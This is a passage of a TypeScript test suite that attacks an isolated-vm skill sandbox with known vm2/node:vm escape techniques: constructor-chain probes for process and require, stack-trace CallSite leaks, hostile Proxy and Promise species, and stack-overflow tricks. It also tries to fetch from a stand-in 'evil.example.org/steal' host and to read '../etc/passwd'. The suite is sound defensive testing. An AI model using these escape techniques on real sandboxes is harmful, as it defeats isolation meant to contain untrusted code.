// Escape suite, run against the real sandbox worker. Each test is a skill that tries one
// class of technique from the escape history of vm2 and node:vm and returns a JSON
// report of what it could reach; the assertions are on that report. The isolate is the
// first wall (see /work/shared/ARCHITECTURE.md): nothing the guest touches may be a host
// function, a host object, `process`, `require`, or an isolated-vm handle.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { after, before, describe, it } from "node:test";
import { inspect } from "node:util";
import { type CapabilityCall, SandboxError, type SandboxEvent, SandboxPool, type SandboxSkill } from "../../sandbox/index.js";
import { type Manifest, parseManifest } from "../../skills-registry/index.js";

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** What the guest-side scanner found by walking everything reachable from its roots. */
interface ScanReport {
  visited: number;
  /** Objects that look like isolated-vm handles (Reference, ExternalCopy, Callback, …). */
  refLike: string[];
  /** Function constructors reachable that are not the guest realm's own four. */
  foreignCtors: string[];
  /** Objects whose prototype chain does not end at the guest realm's Object.prototype. */
  foreignProtos: string[];
  /** Distinct results of running PROBE through every reachable function constructor. */
  probes: string[];
}

interface ErrInfo {
  guest: boolean;
  ctor: string;
  name: string;
  message: string;
  code: string | null;
  keys: string[];
  hasCause: boolean;
}

/** typeof of every host-side name worth having, as seen by code a constructor builds. */
const PROBE_NAMES = ["process", "require", "module", "exports", "__filename", "__dirname", "Buffer", "globalThis.process", "globalThis.require", "globalThis.ivm", "globalThis.$0"];
const CLEAN = PROBE_NAMES.map(() => "undefined").join(" ");

const CANNED = {
  kv: { v: 1, arr: [1, 2], nested: { s: "x" } },
  net: { status: 200, headers: {}, body: "ok" },
  fs: "file text",
};

/**
 * Guest-side helpers prepended to every hostile skill. They capture the built-ins they
 * use when the module is evaluated, so a skill may pollute prototypes afterwards.
 */
const SCANNER = `
const __S = (() => {
  const ownKeys = Reflect.ownKeys, getDesc = Object.getOwnPropertyDescriptor, getProto = Object.getPrototypeOf, rApply = Reflect.apply;
  const GSet = Set, GString = String;
  const ObjectProto = Object.prototype, FunctionProto = Function.prototype, GuestError = Error;
  const guestCtors = new GSet([Function, getProto(async function () {}).constructor, getProto(function* () {}).constructor, getProto(async function* () {}).constructor]);
  const guestErrorCtors = new GSet([Error, TypeError, RangeError, SyntaxError, ReferenceError, EvalError, URIError, AggregateError]);
  const REF_NAMES = new GSet(["Reference", "ExternalCopy", "Callback", "NativeModule", "Isolate", "Context", "Script", "Module", "Dereference"]);
  const PROBE = "return [" + ${JSON.stringify(PROBE_NAMES)}.map((n) => "typeof " + n).join(", ") + "].join(' ')";
  const label = (o) => {
    let c = "?";
    try { c = GString(o && o.constructor && o.constructor.name); } catch (e) { c = "threw"; }
    return typeof o + ":" + c;
  };
  async function runProbe(C) {
    try {
      let v = C(PROBE)();
      if (v && typeof v.next === "function") v = v.next();
      v = await v;
      if (v && typeof v === "object" && "value" in v) v = v.value;
      return GString(v);
    } catch (e) {
      return "threw " + label(e);
    }
  }
  function fnLike(o, k) {
    try { return typeof o[k] === "function"; } catch (e) { return false; }
  }
  async function scan(roots, limit) {
    const max = limit || 60000;
    const seen = new GSet(), queue = [], ctors = new GSet(), refLike = [], foreignProtos = [];
    const push = (v) => {
      if (((typeof v === "object" && v !== null) || typeof v === "function") && !seen.has(v)) { seen.add(v); queue[queue.length] = v; }
    };
    for (const r of roots) push(r);
    let i = 0;
    for (; i < queue.length && i < max; i++) {
      const o = queue[i];
      if (fnLike(o, "derefInto") || fnLike(o, "applySync") || fnLike(o, "applyIgnored") || fnLike(o, "copySync") || fnLike(o, "copyInto") || (fnLike(o, "deref") && fnLike(o, "release"))) refLike.push(label(o));
      let cname;
      try { cname = o.constructor && o.constructor.name; } catch (e) { cname = undefined; }
      if (REF_NAMES.has(cname)) refLike.push(label(o));
      let top = o, p;
      try { while ((p = getProto(top)) !== null) top = p; } catch (e) { top = undefined; }
      if (top !== o && top !== ObjectProto) foreignProtos.push(label(o));
      if (typeof o === "function" && o !== FunctionProto) {
        let chain = o, onFn = false;
        try { while ((chain = getProto(chain)) !== null) if (chain === FunctionProto) onFn = true; } catch (e) { onFn = false; }
        if (!onFn) foreignProtos.push(label(o));
        try { if (typeof o.constructor === "function") ctors.add(o.constructor); } catch (e) { /* unreadable */ }
      }
      try { push(getProto(o)); } catch (e) { /* revoked proxy */ }
      let keys = [];
      try { keys = ownKeys(o); } catch (e) { keys = []; }
      for (const k of keys) {
        let d;
        try { d = getDesc(o, k); } catch (e) { d = undefined; }
        if (!d) continue;
        push(d.value); push(d.get); push(d.set);
        if (typeof d.get === "function") { try { push(rApply(d.get, o, [])); } catch (e) { /* a getter for another receiver */ } }
      }
    }
    const foreignCtors = [], probes = new GSet();
    for (const C of ctors) {
      if (!guestCtors.has(C)) foreignCtors.push(label(C) + "/" + GString(C.name));
      probes.add(await runProbe(C));
    }
    return { visited: i, refLike, foreignCtors, foreignProtos, probes: [...probes] };
  }
  function errInfo(e) {
    const isObj = e !== null && (typeof e === "object" || typeof e === "function");
    let ctor = null;
    try { ctor = isObj ? e.constructor : null; } catch (x) { ctor = null; }
    return {
      guest: isObj && e instanceof GuestError && (guestErrorCtors.has(ctor) || (ctor && getProto(ctor.prototype) === GuestError.prototype)),
      ctor: ctor ? GString(ctor.name) : typeof e,
      name: isObj ? GString(e.name) : "",
      message: isObj ? GString(e.message) : GString(e),
      code: isObj && e.code !== undefined ? GString(e.code) : null,
      keys: isObj ? ownKeys(e).map(GString) : [],
      hasCause: isObj && "cause" in e,
    };
  }
  return { scan, errInfo, PROBE, runProbe };
})();
`;

const HEADER = `import * as sg from "skillgate";\nimport { net, fs, kv, log } from "skillgate";\n`;

const manifest: Manifest = parseManifest(
  JSON.stringify({
    name: "@t/escape",
    version: "1.0.0",
    description: "hostile skills for the escape suite",
    entry: "index.js",
    tools: [{ name: "run", description: "tries an escape", input: { type: "object" }, effect: "read" }],
    capabilities: {
      net: [{ host: "api.example.com", port: 443, methods: ["GET"], paths: ["/"] }],
      fs: [{ path: "data", access: ["read", "write"] }],
      kv: {},
    },
    limits: { memoryMb: 128, cpuMs: 10_000, wallMs: 20_000 },
  }),
);

function skill(body: string, header = HEADER): SandboxSkill {
  const code = `${header}${SCANNER}\n${body}`;
  return { name: manifest.name, digest: createHash("sha256").update(code).digest("hex"), code, manifest };
}

let pool: SandboxPool;
const events: SandboxEvent[] = [];
const hostCalls: CapabilityCall[] = [];
let firstPid: number | undefined;

async function handler(call: CapabilityCall): Promise<Json> {
  hostCalls.push(call);
  if (call.op === "delete" || call.op === "remove") {
    // A host-side failure: its cause, stack and second line must never reach the guest.
    throw Object.assign(new Error("host boom\nsecond line: /etc/skillgate/secret"), { code: "HOST_FAIL", cause: new Error("host cause"), details: { where: "host" } });
  }
  if (call.capability === "net") return CANNED.net;
  if (call.capability === "fs") return call.op === "list" ? ["a", "b"] : CANNED.fs;
  if (call.capability === "kv") return call.op === "keys" ? ["k"] : CANNED.kv;
  return null;
}

async function run<T>(sk: SandboxSkill, input: Json = {}, session = "escape"): Promise<T> {
  const result = await pool.invoke({ session, skill: sk, tool: "run", input });
  return result.output as unknown as T;
}

async function rejects(sk: SandboxSkill, input: Json = {}, session = "escape"): Promise<SandboxError> {
  try {
    await pool.invoke({ session, skill: sk, tool: "run", input });
  } catch (err) {
    assert.ok(err instanceof SandboxError, `expected a SandboxError, got ${inspect(err)}`);
    return err;
  }
  assert.fail("the invocation was expected to fail");
}

function assertClean(scan: ScanReport, what: string, minVisited = 1): void {
  assert.ok(scan.visited >= minVisited, `${what}: the scan visited only ${scan.visited} objects`);
  assert.deepEqual(scan.refLike, [], `${what}: isolated-vm handles reachable`);
  assert.deepEqual(scan.foreignCtors, [], `${what}: non-guest function constructors reachable`);
  assert.deepEqual(scan.foreignProtos, [], `${what}: objects from another realm reachable`);
  assert.deepEqual(scan.probes, [CLEAN], `${what}: a reachable function constructor sees host names`);
}

function assertGuestError(e: ErrInfo | null | undefined, what: string): asserts e is ErrInfo {
  assert.ok(e, `${what}: no error was caught`);
  assert.equal(e.guest, true, `${what}: the error is not a guest-realm Error (${e.ctor})`);
  assert.equal(e.hasCause, false, `${what}: the error carries a cause`);
}

function assertHostBoom(e: ErrInfo | null | undefined, what: string): void {
  assertGuestError(e, what);
  assert.equal(e.message, "host boom", `${what}: only the first line of the host's message may cross`);
  assert.equal(e.code, "HOST_FAIL", what);
  assert.deepEqual([...e.keys].sort(), ["code", "message", "stack"], `${what}: unexpected own properties`);
}

describe("escape suite (real worker)", () => {
  before(async () => {
    pool = await SandboxPool.start({ size: 1, capabilityHandler: handler, onEvent: (e) => events.push(e) });
    firstPid = pool.workerPid("escape", "x");
    assert.ok(firstPid, "the worker has a pid");
  });

  after(async () => {
    await pool?.close();
  });

  it("the scanner flags Reference look-alikes and foreign constructors (so the other tests can fail)", async () => {
    const out = await run<{ scan: ScanReport; clean: ScanReport }>(
      skill(`
export async function run() {
  class Reference { apply() {} derefInto() {} }
  const fakeCopy = { copySync() {}, copyInto() {} };
  function hostish() {}
  Object.setPrototypeOf(hostish, { constructor: function FakeFunction() { return () => "object function"; } });
  const scan = await __S.scan([new Reference(), fakeCopy, hostish, Object.create(Object.create(null))]);
  const clean = await __S.scan([{ a: [1, 2] }, () => 1]);
  return { scan, clean };
}`),
    );
    assert.ok(out.scan.refLike.length >= 2, JSON.stringify(out.scan));
    assert.ok(out.scan.foreignCtors.length >= 1, JSON.stringify(out.scan));
    assert.ok(out.scan.foreignProtos.length >= 2, JSON.stringify(out.scan));
    assert.ok(out.scan.probes.includes("object function"), JSON.stringify(out.scan));
    assertClean(out.clean, "plain guest values");
  });

  it("globalThis holds ECMAScript built-ins only: no process, require, SharedArrayBuffer, Atomics, WebAssembly or capability stash", async () => {
    const out = await run<{ names: string[]; types: Record<string, string>; dyn: string; evalProbe: string; proto: string; scan: ScanReport }>(
      skill(`
export async function run() {
  const names = Object.getOwnPropertyNames(globalThis).concat(Object.getOwnPropertySymbols(globalThis).map(String));
  const types = {};
  for (const n of ["process", "require", "module", "exports", "global", "Buffer", "SharedArrayBuffer", "Atomics", "WebAssembly", "__skillgate_capabilities__", "$0", "ivm", "_ivm", "setTimeout", "queueMicrotask", "fetch", "importScripts"]) types[n] = typeof globalThis[n];
  let dyn;
  try { await import("node:fs"); dyn = "imported"; } catch (e) { dyn = "refused"; }
  const evalProbe = (0, eval)(__S.PROBE.replace(/^return /, ""));
  const proto = String(Object.getPrototypeOf(globalThis) === Object.prototype);
  const scan = await __S.scan([globalThis, sg]);
  return { names, types, dyn, evalProbe, proto, scan };
}`),
    );
    for (const [name, type] of Object.entries(out.types)) assert.equal(type, "undefined", `globalThis.${name} is ${type}`);
    const ecma = new Set([
      "Object", "Function", "Array", "Number", "parseFloat", "parseInt", "Infinity", "NaN", "undefined", "Boolean", "String", "Symbol", "Date", "Promise", "RegExp",
      "Error", "AggregateError", "EvalError", "RangeError", "ReferenceError", "SyntaxError", "TypeError", "URIError", "SuppressedError", "globalThis", "JSON", "Math",
      "Intl", "ArrayBuffer", "Uint8Array", "Int8Array", "Uint16Array", "Int16Array", "Uint32Array", "Int32Array", "Float16Array", "Float32Array", "Float64Array",
      "Uint8ClampedArray", "BigUint64Array", "BigInt64Array", "DataView", "Map", "BigInt", "Set", "WeakMap", "WeakSet", "Proxy", "Reflect", "FinalizationRegistry",
      "WeakRef", "Iterator", "DisposableStack", "AsyncDisposableStack", "decodeURI", "decodeURIComponent", "encodeURI", "encodeURIComponent", "escape", "unescape",
      "eval", "isFinite", "isNaN", "console",
    ]);
    assert.deepEqual(out.names.filter((n) => !ecma.has(n)), [], "non-ECMAScript globals are present");
    assert.equal(out.dyn, "refused", "dynamic import of a Node built-in must fail");
    assert.equal(out.evalProbe, CLEAN);
    assertClean(out.scan, "globalThis", 500);
  });

  it(
    "a skill that never imports \"skillgate\" finds no capability stash on globalThis either",
    async () => {
      const out = await run<{ stash: string; keys: string[] }>(
        skill(`export function run() { const c = globalThis.__skillgate_capabilities__; return { stash: typeof c, keys: c ? Object.keys(c) : [] }; }`, ""),
      );
      assert.equal(out.stash, "undefined", `the stash is reachable with ${out.keys.join(", ")}`);
    },
  );

  it("a static import of anything but \"skillgate\" does not load", async () => {
    for (const specifier of ["node:fs", "fs", "node:child_process", "isolated-vm", "/etc/passwd", "skillgate:host", "./index.js"]) {
      const err = await rejects(skill(`import * as x from ${JSON.stringify(specifier)};\nexport function run() { return typeof x; }`, ""));
      assert.equal(err.code, "SKILL_LOAD_FAILED", `${specifier}: ${err.message}`);
    }
  });

  it("this.constructor.constructor('return process')() and friends, from every object the bridge hands out, give guest functions only", async () => {
    const out = await run<{ attempts: Record<string, string>; scan: ScanReport }>(
      skill(`
export async function run() {
  const attempts = {};
  const tryIt = (name, f) => { try { attempts[name] = String(f()); } catch (e) { attempts[name] = "threw " + (e && e.name); } };
  const P = __S.PROBE;
  const sloppyThis = Function("return this")();
  tryIt("this.constructor.constructor", () => sloppyThis.constructor.constructor(P)());
  tryIt("this.constructor.constructor return process", () => sloppyThis.constructor.constructor("return process")());
  tryIt("this.constructor.constructor return require", () => sloppyThis.constructor.constructor("return require")());
  tryIt("sg.net.constructor.constructor", () => sg.net.constructor.constructor(P)());
  tryIt("net.constructor.constructor", () => net.constructor.constructor(P)());
  tryIt("net.fetch.constructor", () => net.fetch.constructor(P)());
  tryIt("kv.get.constructor return process", () => kv.get.constructor("return process")());
  tryIt("log.info.constructor", () => log.info.constructor(P)());
  tryIt("fs.readText.__proto__.constructor", () => Object.getPrototypeOf(fs.readText).constructor(P)());
  const p = kv.get("k");
  tryIt("promise.constructor.constructor", () => p.constructor.constructor(P)());
  tryIt("promise.then.constructor", () => p.then.constructor(P)());
  const v = await p;
  tryIt("value.constructor.constructor", () => v.constructor.constructor(P)());
  tryIt("value.arr.constructor.constructor", () => v.arr.constructor.constructor(P)());
  tryIt("value.__proto__.__defineGetter__.constructor", () => v.__proto__.__defineGetter__.constructor(P)());
  const res = await net.fetch("https://api.example.com/x");
  tryIt("fetch result.headers.constructor.constructor", () => res.headers.constructor.constructor(P)());
  let hostErr, refusal;
  try { await kv.delete("k"); } catch (e) { hostErr = e; }
  try { await net.fetch("https://evil.example.org/"); } catch (e) { refusal = e; }
  tryIt("hostErr.constructor.constructor", () => hostErr.constructor.constructor(P)());
  tryIt("hostErr.__proto__.__proto__.constructor.constructor", () => hostErr.__proto__.__proto__.constructor.constructor(P)());
  tryIt("refusal.constructor.constructor", () => refusal.constructor.constructor(P)());
  tryIt("refusal.constructor.__proto__.constructor", () => Object.getPrototypeOf(refusal.constructor).constructor(P)());
  const AsyncFunction = (async () => {}).constructor;
  attempts["AsyncFunction from a host promise's then"] = await AsyncFunction(P)();
  const scan = await __S.scan([globalThis, sg, net, fs, kv, log, p, v, res, hostErr, refusal]);
  return { attempts, scan };
}`),
    );
    assert.ok(Object.keys(out.attempts).length >= 20, JSON.stringify(out.attempts));
    for (const [name, result] of Object.entries(out.attempts)) {
      if (/return (process|require)$/.test(name)) assert.equal(result, "threw ReferenceError", name);
      else assert.equal(result, CLEAN, name);
    }
    assertClean(out.scan, "capabilities, their results and errors", 500);
  });

  it("walking the prototypes of everything the bridge returns finds guest-realm plain data", async () => {
    const out = await run<{ shapes: Record<string, string>; values: Json; scan: ScanReport }>(
      skill(`
export async function run() {
  const gp = Object.getPrototypeOf;
  const shapes = {};
  const shape = (name, o) => {
    const chain = [];
    for (let p = gp(o); p; p = gp(p)) chain.push(p === Object.prototype ? "Object" : p === Function.prototype ? "Function" : p === Array.prototype ? "Array" : p === Promise.prototype ? "Promise" : p === Error.prototype ? "Error" : "other:" + String(p.constructor && p.constructor.name));
    shapes[name] = chain.join(">") + (Object.isFrozen(o) ? " frozen" : "");
  };
  shape("sg", sg); shape("net", net); shape("fs", fs); shape("kv", kv); shape("log", log);
  shape("net.fetch", net.fetch); shape("kv.get", kv.get); shape("log.info", log.info);
  const promises = { get: kv.get("k"), keys: kv.keys(), set: kv.set("k", { a: 1 }), fetch: net.fetch("https://api.example.com/"), read: fs.readText("data/x"), list: fs.list("data"), del: kv.delete("k"), refused: fs.readText("../etc/passwd") };
  const values = {}, errors = [];
  for (const [name, p] of Object.entries(promises)) {
    shape("promise " + name, p);
    try { const v = await p; values[name] = v; if (v && typeof v === "object") shape("value " + name, v); }
    catch (e) { values[name] = "rejected " + e.name; errors.push(e); shape("error " + name, e); }
  }
  shape("value get.arr", values.get.arr); shape("value get.nested", values.get.nested);
  const scan = await __S.scan([sg, net, fs, kv, log, ...Object.values(promises), values, ...errors]);
  return { shapes, values, scan };
}`),
    );
    assert.deepEqual(out.shapes, {
      sg: "",
      net: "Object frozen",
      fs: "Object frozen",
      kv: "Object frozen",
      log: "Object frozen",
      "net.fetch": "Function>Object",
      "kv.get": "Function>Object",
      "log.info": "Function>Object",
      "promise get": "Promise>Object",
      "promise keys": "Promise>Object",
      "promise set": "Promise>Object",
      "promise fetch": "Promise>Object",
      "promise read": "Promise>Object",
      "promise list": "Promise>Object",
      "promise del": "Promise>Object",
      "promise refused": "Promise>Object",
      "value get": "Object",
      "value keys": "Array>Object",
      "value set": "Object",
      "value fetch": "Object",
      "value list": "Array>Object",
      "error del": "Error>Object",
      "error refused": "other:NotCapable>Error>Object",
      "value get.arr": "Array>Object",
      "value get.nested": "Object",
    });
    assert.deepEqual(out.values, {
      get: CANNED.kv,
      keys: ["k"],
      set: CANNED.kv,
      fetch: CANNED.net,
      read: CANNED.fs,
      list: ["a", "b"],
      del: "rejected Error",
      refused: "rejected NotCapable",
    });
    assertClean(out.scan, "bridge values");
  });

  it("NotCapable (net.fetch to an undeclared host) carries only plain data {capability, request, need}", async () => {
    const before = events.filter((e) => e.type === "refused").length;
    const out = await run<{ info: ErrInfo; fields: Record<string, string>; protoFrozen: boolean; instance: boolean; scan: ScanReport }>(
      skill(`
export async function run() {
  let err;
  try { await net.fetch("https://evil.example.org/steal?x=1"); } catch (e) { err = e; }
  const fields = {};
  for (const k of ["capability", "request", "need"]) fields[k] = typeof err[k] + ":" + String(err[k]);
  const protoFrozen = Object.isFrozen(Object.getPrototypeOf(err));
  const scan = await __S.scan([err]);
  return { info: __S.errInfo(err), fields, protoFrozen, instance: err instanceof Error, scan };
}`),
    );
    assertGuestError(out.info, "NotCapable");
    assert.equal(out.info.name, "NotCapable");
    assert.equal(out.instance, true);
    assert.deepEqual([...out.info.keys].sort(), ["capability", "message", "name", "need", "request", "stack"]);
    assert.equal(out.fields.capability, "string:net");
    assert.equal(out.fields.request, "string:GET https://evil.example.org/steal");
    assert.match(out.fields.need ?? "", /^string:capabilities\.net: \{ "host": "evil\.example\.org"/);
    assert.equal(out.protoFrozen, true);
    assertClean(out.scan, "NotCapable");
    assert.equal(events.filter((e) => e.type === "refused").length, before + 1, "the gateway reported the refusal");
  });

  it("Error.prepareStackTrace with CallSite getThis/getFunction never yields a bootstrap frame's this or function", async () => {
    const out = await run<{ frames: { file: string; name: string; self: string; fn: string }[]; values: Json; scan: ScanReport }>(
      skill(`
export async function run() {
  const grabbed = [], frames = [];
  Error.stackTraceLimit = Infinity;
  Error.prepareStackTrace = (err, callSites) => {
    for (const cs of callSites) {
      let self, fn;
      try { self = cs.getThis(); } catch (e) { self = undefined; }
      try { fn = cs.getFunction(); } catch (e) { fn = undefined; }
      grabbed.push(self, fn);
      frames.push({ file: String(cs.getFileName()), name: String(cs.getFunctionName()), self: typeof self, fn: typeof fn });
    }
    return "stack of " + String(err && err.message);
  };
  // V8 hides this/function of strict frames and of every frame below one, so the hooks
  // that run with the bootstrap on the stack are sloppy functions, called from it directly.
  const grab = Function("E", "return function grab() { const e = new E('grab'); void e.stack; const o = {}; E.captureStackTrace(o); void o.stack; }")(Error);
  const hook = (ret) => Function("grab", "ret", "return function hook() { grab(); return ret; }")(grab, ret);
  const values = {};
  // 1. toJSON, run by JSON.stringify inside the bootstrap's call().
  values.set = await kv.set("k", { toJSON: hook(1) });
  // 2. toString and option getters, read by the bootstrap's net.fetch wrapper.
  const opts = {};
  Object.defineProperty(opts, "method", { get: hook("GET"), enumerable: true });
  Object.defineProperty(opts, "headers", { get: hook({}), enumerable: true });
  values.fetch = await net.fetch({ toString: hook("https://api.example.com/") }, opts);
  // 3. An Object.prototype getter the bootstrap's error mapping reads.
  for (const key of ["details", "need", "capability"]) Object.defineProperty(Object.prototype, key, { get: hook(undefined), configurable: true });
  try { await kv.delete("k"); } catch (e) { void e.stack; grabbed.push(e); }
  try { await net.fetch("https://evil.example.org/"); } catch (e) { void e.stack; grabbed.push(e); }
  for (const key of ["details", "need", "capability"]) delete Object.prototype[key];
  // 4. A Promise species constructor, run by the bootstrap's then.
  const SloppySpy = Function("grab", "P", "return function SloppySpy(executor) { grab(); return new P(executor); }")(grab, Promise);
  Object.defineProperty(Promise.prototype, "constructor", { value: { [Symbol.species]: SloppySpy }, configurable: true, writable: true });
  values.get = await kv.get("k");
  Object.defineProperty(Promise.prototype, "constructor", { value: Promise, configurable: true, writable: true });
  // 5. The skill's own sloppy frame: the probe must see this one.
  hook(0)();
  Error.prepareStackTrace = undefined;
  const scan = await __S.scan(grabbed.filter((x) => x !== undefined));
  return { frames, values, scan };
}`),
    );
    const bootstrap = out.frames.filter((f) => f.file === "<isolated-vm>" || f.file === "skillgate:host");
    assert.ok(bootstrap.length >= 4, `the bootstrap was never on the stack: ${JSON.stringify(out.frames)}`);
    assert.deepEqual(
      bootstrap.filter((f) => f.self !== "undefined" || f.fn !== "undefined"),
      [],
      "a bootstrap frame gave up its this or function",
    );
    assert.ok(
      out.frames.some((f) => f.name === "hook" && f.fn === "function"),
      "a sloppy skill frame must expose its function, or the probe proves nothing",
    );
    assert.deepEqual(out.values, { set: CANNED.kv, fetch: CANNED.net, get: CANNED.kv });
    assertClean(out.scan, "call sites");
  });

  it("a prepareStackTrace that returns a Proxy or throws, on an error the tool throws, fails the call cleanly", async () => {
    for (const mode of ["proxy", "throw", "hostile-object"]) {
      const err = await rejects(
        skill(`
export async function run(input) {
  const mode = ${JSON.stringify(mode)};
  Error.prepareStackTrace = (e, cs) => {
    if (mode === "throw") throw new Proxy({}, { get() { throw new Error("trap"); } });
    if (mode === "proxy") return new Proxy({}, { get(t, k) { return () => { throw new Error("trap " + String(k)); }; } });
    return { toString() { throw new Error("nope"); }, [Symbol.toPrimitive]() { throw new Error("nope"); } };
  };
  throw new Error("tool failed");
}`),
      );
      assert.equal(err.code, "SKILL_ERROR", `${mode}: ${err.code} ${err.message}`);
      assert.equal(typeof err.message, "string");
    }
  });

  it("stack-overflow errors at every depth around a host call are guest RangeErrors, and host calls made near the limit return the right values", async () => {
    const out = await run<{ errors: ErrInfo[]; settled: string[]; values: Json[]; deep: ErrInfo; scan: ScanReport }>(
      skill(`
export async function run() {
  const errors = [], promises = [], raw = [];
  const ops = [() => kv.get("k"), () => net.fetch("https://api.example.com/deep"), () => kv.set("k", { a: [1, { b: 2 }] }), () => kv.delete("k")];
  // Filled in place at the stack limit: growing an array there can itself overflow and lose the record.
  const firsts = new Array(64).fill(null);
  for (let margin = 0; margin < 64; margin++) {
    // Overflow the stack, unwind "margin" frames, then call the host from there. The
    // promise is returned, never stored, so no stack is needed to keep it.
    let left = margin;
    const rec = () => {
      try { return rec(); } catch (e) {
        if (firsts[margin] === null) firsts[margin] = e;
        if (left-- > 0) throw e;
        return ops[margin % ops.length]();
      }
    };
    try { promises.push(rec()); } catch (e) { raw.push(e); }
  }
  for (const e of firsts) if (e !== null) raw.push(e);
  const settled = [], values = [];
  for (const r of await Promise.allSettled(promises)) {
    if (r.status === "fulfilled") { values.push(r.value); settled.push("ok"); }
    else { raw.push(r.reason); settled.push(String(r.reason && r.reason.name) + ":" + String(r.reason && r.reason.message)); }
  }
  // A value too deep to stringify, as capability arguments.
  let deepArg = [];
  for (let i = 0; i < 2e5; i++) deepArg = [deepArg];
  let deep;
  try { await kv.set("k", deepArg); } catch (e) { deep = __S.errInfo(e); raw.push(e); }
  for (const e of raw) errors.push(__S.errInfo(e));
  const scan = await __S.scan([...raw, ...promises, ...values]);
  return { errors, settled, values, deep, scan };
}`),
    );
    assert.ok(out.errors.length >= 64, `expected an overflow per margin, got ${out.errors.length}`);
    for (const e of out.errors) {
      assertGuestError(e, `stack overflow ${e.ctor}: ${e.message}`);
      if (e.code !== null) assert.equal(e.code, "HOST_FAIL", e.message);
    }
    assert.ok(out.settled.filter((s) => s === "ok").length >= 16, `few host calls succeeded near the stack limit: ${out.settled.join(", ")}`);
    for (const s of out.settled) assert.ok(s === "ok" || s === "Error:host boom" || s === "Error:capability arguments must be JSON", s);
    for (const v of out.values) assert.ok(JSON.stringify(v) === JSON.stringify(CANNED.kv) || JSON.stringify(v) === JSON.stringify(CANNED.net), JSON.stringify(v));
    assertGuestError(out.deep, "deep arguments");
    assertClean(out.scan, "stack-overflow errors");
  });

  it("Proxy traps on thrown objects, outputs and arguments only ever receive guest values", async () => {
    const body = `
export async function run(input) {
  const log = (globalThis.__trapLog ??= { traps: [], args: [] });
  const handler = {};
  for (const trap of ["get", "set", "has", "ownKeys", "getOwnPropertyDescriptor", "defineProperty", "deleteProperty", "getPrototypeOf", "setPrototypeOf", "apply", "construct", "isExtensible", "preventExtensions"]) {
    handler[trap] = (...args) => { log.traps.push(trap + (typeof args[1] === "string" ? ":" + args[1] : "")); log.args.push(...args); return Reflect[trap](...args); };
  }
  const phase = input.phase;
  if (phase === "throw-error") throw new Proxy(new Error("proxied error"), handler);
  if (phase === "throw-object") throw new Proxy({ message: "proxied object" }, handler);
  if (phase === "throw-function") throw new Proxy(function thrown() {}, handler);
  if (phase === "reject-error") return Promise.reject(new Proxy(new TypeError("proxied rejection"), handler));
  if (phase === "output") return new Proxy({ a: 1, nested: new Proxy({ b: [1, 2] }, handler) }, handler);
  if (phase === "args") {
    const v = await kv.set(new Proxy({ toString() { return "k"; } }, handler), new Proxy({ x: 1 }, handler));
    const r = await net.fetch("https://api.example.com/", new Proxy({ method: "GET" }, handler));
    return { v, r };
  }
  const scan = await __S.scan(log.args);
  return { traps: [...new Set(log.traps)], scan };
}`;
    const sk = skill(body);
    for (const phase of ["throw-error", "throw-object", "throw-function", "reject-error"]) {
      const err = await rejects(sk, { phase });
      assert.equal(err.code, "SKILL_ERROR", `${phase}: ${err.code} ${err.message}`);
      assert.equal(typeof err.message, "string");
    }
    assert.deepEqual(await run(sk, { phase: "output" }), { a: 1, nested: { b: [1, 2] } });
    assert.deepEqual(await run(sk, { phase: "args" }), { v: CANNED.kv, r: CANNED.net });
    const out = await run<{ traps: string[]; scan: ScanReport }>(sk, { phase: "report" });
    assert.ok(out.traps.length >= 5, `the traps barely ran: ${out.traps.join(", ")}`);
    assertClean(out.scan, "proxy trap arguments");
  });

  it("Symbol.species on promises: a hostile species sees only guest executors, and host calls still return the right values", async () => {
    const out = await run<{ values: Json; hostErr: ErrInfo; constructed: number; throwing: string[]; scan: ScanReport }>(
      skill(`
export async function run() {
  const seen = [];
  let constructed = 0;
  class Evil extends Promise {
    constructor(executor) {
      constructed++;
      seen.push(executor);
      super((resolve, reject) => { seen.push(resolve, reject); executor(resolve, reject); });
    }
    static get [Symbol.species]() { return Evil; }
  }
  const speciesDesc = Object.getOwnPropertyDescriptor(Promise, Symbol.species);
  Object.defineProperty(Promise.prototype, "constructor", { value: Evil, configurable: true, writable: true });
  Object.defineProperty(Promise, Symbol.species, { get() { return Evil; }, configurable: true });
  const values = {};
  const p = kv.get("k");
  seen.push(p);
  values.get = await p;
  values.then = await p.then((v) => v.arr);
  values.fetch = await net.fetch("https://api.example.com/").then((r) => r.body);
  let hostErr;
  try { await kv.delete("k").catch((e) => { throw e; }); } catch (e) { hostErr = __S.errInfo(e); seen.push(e); }
  values.finally = await kv.get("k").finally(function () { seen.push(this); });
  // A species getter that throws: host calls must fail cleanly, not hang or crash.
  const throwing = [];
  Object.defineProperty(Promise.prototype, "constructor", { get() { throw new Error("no constructor for you"); }, configurable: true });
  for (const f of [() => kv.get("k"), () => net.fetch("https://api.example.com/")]) {
    try { const r = f(); throwing.push("returned " + typeof r); seen.push(r); } catch (e) { throwing.push("threw " + e.message); }
  }
  Object.defineProperty(Promise.prototype, "constructor", { value: Promise, configurable: true, writable: true });
  Object.defineProperty(Promise, Symbol.species, speciesDesc);
  const scan = await __S.scan(seen);
  return { values, hostErr, constructed, throwing, scan };
}`),
    );
    assert.deepEqual(out.values, { get: CANNED.kv, then: CANNED.kv.arr, fetch: CANNED.net.body, finally: CANNED.kv });
    assertHostBoom(out.hostErr, "host error through a hostile species");
    assert.ok(out.constructed >= 3, "the hostile species was never used (the test would prove nothing)");
    for (const t of out.throwing) assert.ok(t === "threw no constructor for you" || t === "returned object", t);
    assertClean(out.scan, "species executors");
  });

  it("a tool that leaves Promise species hostile when it returns still completes or fails cleanly", async () => {
    for (const mode of ["evil", "throwing"]) {
      const sk = skill(`
export async function run() {
  class Evil extends Promise { static get [Symbol.species]() { return Evil; } }
  if (${JSON.stringify(mode)} === "evil") Object.defineProperty(Promise.prototype, "constructor", { value: Evil, configurable: true });
  else Object.defineProperty(Promise.prototype, "constructor", { get() { throw new Error("species"); }, configurable: true });
  Object.defineProperty(Promise.prototype, "then", { value: function () { throw new Error("then is gone"); }, configurable: true });
  return { done: true };
}`);
      try {
        const out = await run(sk, {}, `species-${mode}`);
        assert.deepEqual(out, { done: true });
      } catch (err) {
        assert.ok(err instanceof SandboxError, inspect(err));
        assert.ok(["SKILL_ERROR", "WALL_LIMIT", "CPU_LIMIT"].includes(err.code), `${mode}: ${err.code} ${err.message}`);
      }
    }
  });

  it("async-function and async-generator error paths carry guest errors only", async () => {
    const body = `
export async function run(input) {
  if (input.uncaught) return await kv.delete("k");
  const errs = [], values = [], seen = [];
